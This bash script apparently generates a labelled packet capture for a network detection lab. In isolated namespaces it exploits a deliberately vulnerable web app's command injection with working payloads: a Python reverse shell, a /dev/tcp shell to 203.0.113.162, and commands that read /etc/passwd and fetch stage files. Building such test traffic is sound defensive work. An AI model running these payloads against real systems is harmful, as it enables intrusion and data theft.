#!/usr/bin/env bash
# usage: make-reverse-shell.sh OUT.pcap [short]
# Seed 4's story with real programs: a web application with a command injection, call-backs that become shells, tools
# fetched by address, an administrator's SSH session and ordinary traffic. Needs root. `short` types fewer commands.
here=$(cd "$(dirname "$0")" && pwd)
. "$here/lab.sh"
out=$(realpath "$1")
short=${2:-}
lab_up

printf '#!/bin/sh\n# stage two\nuname -a > /dev/null\n' >"$scratch/stage.sh"
cp /bin/true "$scratch/update"
ssh-keygen -q -t ed25519 -N '' -f "$scratch/host_key"
ssh-keygen -q -t ed25519 -N '' -f "$scratch/admin_key"
mkdir -p /run/sshd

capture "$qr_web" "$out"
as_machine web-1 vdt-web "$node" "$here/vulnerable-app.ts" 3000 &
as_machine web-1 vdt-web /usr/sbin/sshd -D -e -p 22 -h "$scratch/host_key" -o AuthorizedKeysFile="$scratch/admin_key.pub" -o StrictModes=no -o UsePAM=no \
  -o PermitRootLogin=yes -o PidFile=none 2>"$scratch/sshd.log" &
in_ns vdt-ext "$node" "$here/web-site.ts" 203.0.113.80 80 &
in_ns vdt-ext "$node" "$here/web-site.ts" 203.0.113.162 8000 "$scratch" &
commands=(id hostname 'uname -s -m' 'head -3 /etc/passwd')
[ -n "$short" ] || commands+=('ls -l /opt' 'curl -s -o /tmp/.vdt-stage http://203.0.113.162:8000/stage.sh' 'curl -s -o /tmp/.vdt-update http://203.0.113.162:8000/update' 'ls -l /tmp/.vdt-update' 'rm -f /tmp/.vdt-stage /tmp/.vdt-update')
in_ns vdt-ext "$node" "$here/shell-listener.ts" 3000 "${commands[@]}" &
sleep 2

# The administrator works as on any day.
in_ns vdt-ext ssh -q -b 198.51.100.7 -i "$scratch/admin_key" -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@203.0.113.20 \
  'id; sleep 7; hostname; sleep 9; id' >/dev/null 2>&1 &

# Ordinary life: names resolved, pages fetched, visitors.
in_ns vdt-web dig +short mirror.example >/dev/null
in_ns vdt-web curl -s -o /dev/null http://mirror.example/packages/index.json
for page in / /about /jokes.json; do in_ns vdt-ext curl -s -o /dev/null --interface 198.51.100.66 "http://203.0.113.20:3000$page"; sleep 0.7; done
in_ns vdt-ext curl -s -o /dev/null --interface 198.51.100.66 'http://203.0.113.20:3000/dangerzone?category=fashion'

# inject PAYLOAD: appended to the parameter, percent-encoded as a browser would.
inject() {
  in_ns vdt-ext curl -s -o /dev/null -m 100 --interface 198.51.100.66 -G --data-urlencode "category=fashion$1" http://203.0.113.20:3000/dangerzone || true
}
inject '&&whoami'
inject '&&export RHOST="203.0.113.162";export RPORT=3000;python3 -c '"'"'import sys,socket,os,pty;s=socket.socket();s.connect((os.getenv("RHOST"),int(os.getenv("RPORT"))));[os.dup2(s.fileno(),fd) for fd in (0,1,2)];pty.spawn("sh")'"'" &
sleep 4
# Sent while the first shell holds the application: it waits, and opens a shell when that one ends.
inject '&&sh -i >& /dev/tcp/203.0.113.162/3000 0>&1' &
while pgrep -f 'curl -s -o /dev/null -m 100' >/dev/null; do sleep 0.5; done
in_ns vdt-web curl -s -o /dev/null http://www.example/news
capture_stop
